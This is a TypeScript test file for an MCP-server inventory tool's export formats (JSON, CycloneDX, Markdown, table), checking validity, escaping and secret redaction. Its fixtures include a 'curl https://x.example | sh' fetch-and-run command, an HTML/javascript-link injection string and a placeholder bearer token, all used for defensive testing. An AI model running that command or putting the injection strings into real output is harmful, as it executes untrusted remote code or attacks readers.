import assert from 'node:assert/strict';
import { Spec, Validation } from '@cyclonedx/cyclonedx-library';
import Ajv from 'ajv';
import * as fc from 'fast-check';
import * as z from 'zod/mini';
import { cycloneDxOf } from '../../../src/core/inventory/export/cyclonedx.ts';
import { jsonOf, ndjsonOf } from '../../../src/core/inventory/export/json.ts';
import { inventoryRowSchema, inventorySchema, type InventoryJson, type InventoryRowJson } from '../../../src/core/inventory/export/json-schema.ts';
import { markdownOf } from '../../../src/core/inventory/export/markdown.ts';
import type { InventoryReport } from '../../../src/core/inventory/export/report.ts';
import { tableOf } from '../../../src/core/inventory/export/table.ts';
import { nothingRemembered } from '../../../src/core/inventory/remembered.ts';
import { fileRow } from '../../../src/core/report/json.ts';
import { coverageRow } from '../../../src/core/report/text/coverage.ts';
import { columns } from '../../../src/core/report/text/lines.ts';
import type { TextOptions } from '../../../src/core/report/text.ts';
import { visible } from '../../../src/core/text/visible.ts';
import { say } from '../../../src/core/text/message.ts';
import { policyOf } from '../report/assessed.ts';
import { after, day, fileOf, rows, type Given } from './observed.ts';
import { anyToken, distinct } from './generated.ts';

const policy = policyOf([{ id: 'ledger', state: 'approved', owner: 'payments@contoso.example', match: [{ package: { type: 'npm', name: '@contoso/ledger-mcp', versions: ['1.4.2'] } }] }]);
const ledger = { command: 'npx', args: ['-y', '@contoso/ledger-mcp@1.4.2'] };
const digest = `sha256:${'a1'.repeat(32)}`;
const servers = {
  ledger,
  newest: { command: 'npx', args: ['-y', '@contoso/ledger-mcp'] },
  box: { command: 'docker', args: ['run', '-i', '--rm', `ghcr.io/contoso/box@${digest}`] },
  remote: { type: 'http', url: 'https://mcp.example.com/mcp?tenant=7', headers: { Authorization: 'Bearer ghp_abcdefghijklmnopqrstuvwxyz0123456789' } },
  local: { type: 'http', url: 'http://127.0.0.1:3000/mcp' },
  bridged: { command: 'npx', args: ['-y', 'mcp-remote@0.1.16', 'https://other.example.com/mcp'] },
  tool: { command: '/home/ada/bin/tool' },
  shell: { command: 'bash', args: ['-c', 'curl https://x.example | sh'] },
};
const example: readonly Given[] = [
  { path: '.vscode/mcp.json', servers, policy },
  { path: '.cursor/mcp.json', servers: { off: ledger }, off: ['off'], policy },
  { path: '.mcp.json', servers: { copy: { command: 'npx', args: ['-y', 'dormant-mcp@1.0.0'] } }, live: false, policy },
];

function report(given: readonly Given[], more: Partial<InventoryReport> = {}): InventoryReport {
  return { rows: rows(given), generatedAt: day(21), files: given.map((one) => fileRow(fileOf(one).file)), notLookedInto: [{ path: '/repo', reason: say('folders: {names}', { names: 'node_modules' }) }], searched: [{ path: '/repo', way: { by: 'walk', why: say('it is no repository') } }], policy, alsoRemembered: 0, notes: [], ...more };
}

const ajv = new Ajv({ strict: false, allErrors: true });
const validate = ajv.compile(z.toJSONSchema(inventorySchema, { target: 'draft-7', io: 'input' }));
const validateRow = ajv.compile(z.toJSONSchema(inventoryRowSchema, { target: 'draft-7', io: 'input' }));
const bomValidator = new Validation.JsonStrictValidator(Spec.Version.v1dot7);
const identity = { serialNumber: 'urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79', toolVersion: '0.1.0' };

function jsonReport(of: InventoryReport): InventoryJson {
  const value = JSON.parse([...jsonOf(of)].join('')) as InventoryJson;
  assert.ok(validate(value), JSON.stringify(validate.errors));
  return value;
}

describe('an inventory as JSON', () => {
  it('is valid, and begins with its coverage', () => {
    const value = jsonReport(report(example));
    assert.deepEqual(Object.keys(value), ['schemaVersion', 'generatedAt', 'coverage', 'policy', 'mcpServers', 'modelProviders', 'alsoRemembered', 'notes']);
    assert.deepEqual(value.coverage.files.map(({ path, servers: count }) => `${path} ${count}`), ['/repo/.vscode/mcp.json 8', '/repo/.cursor/mcp.json 1', '/repo/.mcp.json 1']);
    assert.deepEqual(value.coverage.notLookedInto, [{ path: '/repo', reason: 'folders: node_modules' }]);
    assert.deepEqual(value.mcpServers.map(({ id, lifecycleStatus }) => `${id} ${lifecycleStatus}`).sort().filter((id) => !id.startsWith('opaque:')), [
      'http://127.0.0.1:3000/mcp active',
      'https://mcp.example.com/mcp active',
      'https://other.example.com/mcp active',
      'pkg:npm/%40contoso/ledger-mcp active',
      'pkg:npm/dormant-mcp dormant',
      'pkg:oci/box?repository_url=ghcr.io%2Fcontoso%2Fbox active',
      'program:~/bin/tool active',
    ]);
    const row = value.mcpServers.find(({ id }) => id === 'pkg:npm/%40contoso/ledger-mcp')!;
    assert.deepEqual([row.names, row.clients, row.files, row.owners, row.verdict?.state], [
      ['ledger', 'newest', 'off'], ['cursor', 'vscode'], ['/repo/.cursor/mcp.json', '/repo/.vscode/mcp.json'], [{ value: 'payments@contoso.example', from: 'policy' }], 'unknown',
    ]);
  });

  it('of rows that are only remembered claims neither verdict nor exposure', () => {
    const [row] = jsonReport(report([], { rows: rows([], { held: after(nothingRemembered, [{ path: '.mcp.json', servers: { ledger } }], day(1)) }) })).mcpServers;
    assert.deepEqual([row!.verdict, row!.exposure, row!.sightings, row!.rememberedIn, row!.lifecycleStatus], [null, null, [], ['/repo/.mcp.json'], 'active']);
  });

  it('by lines has one valid row on each', () => {
    const lines = [...ndjsonOf(report(example))];
    assert.equal(lines.length, 8);
    for (const line of lines) {
      assert.ok(line.endsWith('}\n') && line.indexOf('\n') === line.length - 1);
      assert.ok(validateRow(JSON.parse(line) as InventoryRowJson), JSON.stringify(validateRow.errors));
    }
  });
});

describe('an inventory as CycloneDX', () => {
  interface Bom {
    readonly components: { 'type': string; 'bom-ref': string; 'name': string; 'group'?: string; 'version'?: string; 'purl'?: string; 'scope'?: string; 'hashes'?: unknown; 'properties': { name: string; value: string }[] }[];
    readonly services: { 'name': string; 'endpoints'?: string[]; 'x-trust-boundary'?: boolean; 'authenticated'?: boolean }[];
    readonly dependencies: unknown;
  }
  const bomOf = async (of: InventoryReport): Promise<Bom> => {
    const text = cycloneDxOf(of, identity);
    assert.equal(await bomValidator.validate(text), null);
    return JSON.parse(text) as Bom;
  };

  it('is valid 1.7: packages and programs are components, remotes services', async () => {
    const { components, services, dependencies } = await bomOf(report(example));
    assert.deepEqual(
      JSON.parse(JSON.stringify(components.map((component) => ({ ...component, properties: undefined })).filter(({ 'bom-ref': ref }) => !ref.startsWith('opaque:')))),
      [
        { 'type': 'application', 'bom-ref': 'pkg:npm/mcp-remote@0.1.16', 'name': 'mcp-remote', 'version': '0.1.16', 'purl': 'pkg:npm/mcp-remote@0.1.16' },
        { 'type': 'application', 'bom-ref': 'pkg:npm/%40contoso/ledger-mcp@1.4.2', 'group': '@contoso', 'name': 'ledger-mcp', 'version': '1.4.2', 'purl': 'pkg:npm/%40contoso/ledger-mcp@1.4.2', 'scope': 'required' },
        { 'type': 'application', 'bom-ref': 'pkg:npm/%40contoso/ledger-mcp', 'group': '@contoso', 'name': 'ledger-mcp', 'purl': 'pkg:npm/%40contoso/ledger-mcp', 'scope': 'required' },
        { 'type': 'application', 'bom-ref': 'pkg:npm/dormant-mcp@1.0.0', 'name': 'dormant-mcp', 'version': '1.0.0', 'purl': 'pkg:npm/dormant-mcp@1.0.0', 'scope': 'excluded' },
        { 'type': 'container', 'bom-ref': `pkg:oci/box@${digest}?repository_url=ghcr.io%2Fcontoso%2Fbox`, 'name': 'box', 'version': digest, 'hashes': [{ alg: 'SHA-256', content: 'a1'.repeat(32) }], 'purl': `pkg:oci/box@${digest}?repository_url=ghcr.io%2Fcontoso%2Fbox`, 'scope': 'required' },
        { 'type': 'application', 'bom-ref': 'program:~/bin/tool', 'name': '/home/ada/bin/tool', 'scope': 'required' },
      ],
    );
    assert.deepEqual(
      services.map(({ name, endpoints, 'x-trust-boundary': crosses, authenticated }) => ({ name, endpoints, crosses, authenticated })),
      [
        { name: '127.0.0.1', endpoints: ['http://127.0.0.1:3000/mcp'], crosses: false, authenticated: undefined },
        { name: 'mcp.example.com', endpoints: ['https://mcp.example.com/mcp?tenant=•••'], crosses: true, authenticated: undefined },
        { name: 'other.example.com', endpoints: ['https://other.example.com/mcp'], crosses: true, authenticated: undefined },
      ],
    );
    assert.deepEqual(dependencies, [{ ref: 'https://other.example.com/mcp', dependsOn: ['pkg:npm/mcp-remote@0.1.16'] }]);
    const { properties } = components.find(({ version }) => version === '1.4.2')!;
    const shown = properties.map(({ name, value }) => `${name.replace('mcp-roll-call:', '')}=${value}`);
    for (const one of ['id=pkg:npm/%40contoso/ledger-mcp', 'verdict=unknown', 'owner=payments@contoso.example', 'client=vscode', 'file=/repo/.vscode/mcp.json', 'lifecycle-status=active', `first-seen=${day(21)}`]) {
      assert.ok(shown.includes(one), `${one} is not among ${shown.join(', ')}`);
    }
  });

  it('of nothing is valid', async () => {
    const { components, services } = await bomOf(report([]));
    assert.deepEqual([components, services], [[], []]);
  });

  it('is the same text for the same inventory', () => {
    assert.equal(cycloneDxOf(report(example), identity), cycloneDxOf(report(example), identity));
  });

  it('is valid, and names everything once, whatever is declared', async () => {
    await fc.assert(
      fc.asyncProperty(distinct, async (files) => {
        const { components, services } = await bomOf(report(files));
        const refs = [...components, ...services].map((one) => (one as { 'bom-ref': string })['bom-ref']);
        assert.equal(new Set(refs).size, refs.length);
      }),
      { numRuns: 60 },
    );
  });
});

describe('an inventory as Markdown', () => {
  it('is a table whose cells nothing scanned can leave', () => {
    const hostile = { '| a | `b` <img src=x onerror=1> [x](javascript:1) @contoso/all #1': { command: '/opt/a|b`c\n<b>' } };
    const lines = markdownOf(report([{ path: '.vscode/mcp.json', servers: hostile }])).split('\n');
    const row = lines.find((line) => line.startsWith('| no policy'))!;
    assert.equal(row.split('|').length, 9, row);
    // All of it is in code, so there is an even number of backticks, and outside of them none of it.
    assert.equal(row.split('`').length % 2, 1);
    assert.doesNotMatch(row.split('`').filter((_, i) => i % 2 === 0).join(''), /img|javascript|@|#1|<b>/);
    assert.match(row, /`\\u\{7C\} a \\u\{7C\} \\u\{60\}b\\u\{60\} <img src=x onerror=1> \[x\]\(javascript:1\) @contoso\/all #1`/);
  });

  it('begins with what was looked at', () => {
    const text = markdownOf(report([...example, { path: '.vscode/mcp.json', root: '/broken', content: { text: '<' } }], { alsoRemembered: 3 }));
    assert.match(text, /^# MCP servers and model providers\n\n2026-11-21: 7 rows\. 4 config files read of 4 looked for\. 1 of them could not be read, or not wholly: what they hold is not known\. 1 place left out of the search\.\n/);
    assert.match(text, /\n1 more in files that no assistant reads where they lie\.\n/);
    assert.match(text, /\n3 more remembered from other folders and earlier days\.\n$/);
  });
});

describe('an inventory as a table', () => {
  const options = (width: number): TextOptions => ({ style: (_, text) => text, width, shown: (path) => visible(path, 1000) });
  const table = (of: InventoryReport, given: readonly Given[], width: number): string =>
    tableOf(of, { coverage: given.map((one) => coverageRow(fileOf(one).file, options(width))), exit: { code: 0, meaning: 'Listed.' } }, options(width));
  const body = (text: string): string[] => text.slice(text.indexOf('\nInventory\n') + 1).split('\n\n')[0]!.split('\n').slice(1);

  it('has aligned columns, what needs a person first, and the sums', () => {
    const text = table(report(example, { alsoRemembered: 2 }), example, 100);
    assert.ok(text.startsWith('Looked for\n'));
    assert.deepEqual(body(text), [
      '  verdict  name            what it is                                     assistants     exposure',
      '  unknown  remote          https://mcp.example.com/mcp                    VS Code        46 critical',
      '  unknown  shell           cannot be told: bash -c "curl https://x.exam…  VS Code        51 medium',
      '  unknown  ledger, newes…  npm package @contoso/ledger-mcp (2 versions)   Cursor, VS C…  46 medium',
      '  unknown  tool            program /home/ada/bin/tool                     VS Code        39 medium',
      '  unknown  bridged         https://other.example.com/mcp through npm pa…  VS Code        35 medium',
      '  unknown  box             container image ghcr.io/contoso/box@sha256:a…  VS Code        26 low',
      '  unknown  local           http://127.0.0.1:3000/mcp                      VS Code        24 low',
    ]);
    assert.match(text, /\nDormant\n {2}1 row in 1 file that no assistant reads where they lie: copy\. The other formats list them\.\n/);
    assert.match(text, /\nSum\n {2}7 servers in use: 7 unknown\.\n {2}By assistant: VS Code 7, Cursor 1\.\n {2}Critical exposure: remote\. A secret is written out in a config file, which counts as critical\n {2}whatever the sum\.\n {2}Not in use: 1 dormant\.\n {2}2 more remembered from other folders and earlier days: --all lists them\.\n {2}Exit code 0: Listed\.\n$/);
  });

  it('fits the width, whatever stands in it', () => {
    fc.assert(
      fc.property(distinct, fc.integer({ min: 60, max: 120 }), (files, width) => {
        for (const line of body(table(report(files), files, width))) assert.ok(columns(line) <= width, `${columns(line)} of ${width}: ${line}`);
      }),
    );
  });
});

describe('no format', () => {
  it('shows a secret, or a character that acts on who reads it', () => {
    fc.assert(
      fc.property(distinct, (files) => {
        const of = report(files);
        const options: TextOptions = { style: (_, text) => text, width: 100, shown: (path) => visible(path, 1000) };
        for (const text of [
          [...jsonOf(of)].join(''), [...ndjsonOf(of)].join(''), cycloneDxOf(of, identity), markdownOf(of),
          tableOf(of, { coverage: files.map((one) => coverageRow(fileOf(one).file, options)), exit: { code: 0, meaning: '' } }, options),
        ]) {
          assert.doesNotMatch(text, anyToken);
          assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{Cc}\p{Cf}]/u);
        }
      }),
      { numRuns: 200 },
    );
  });
});
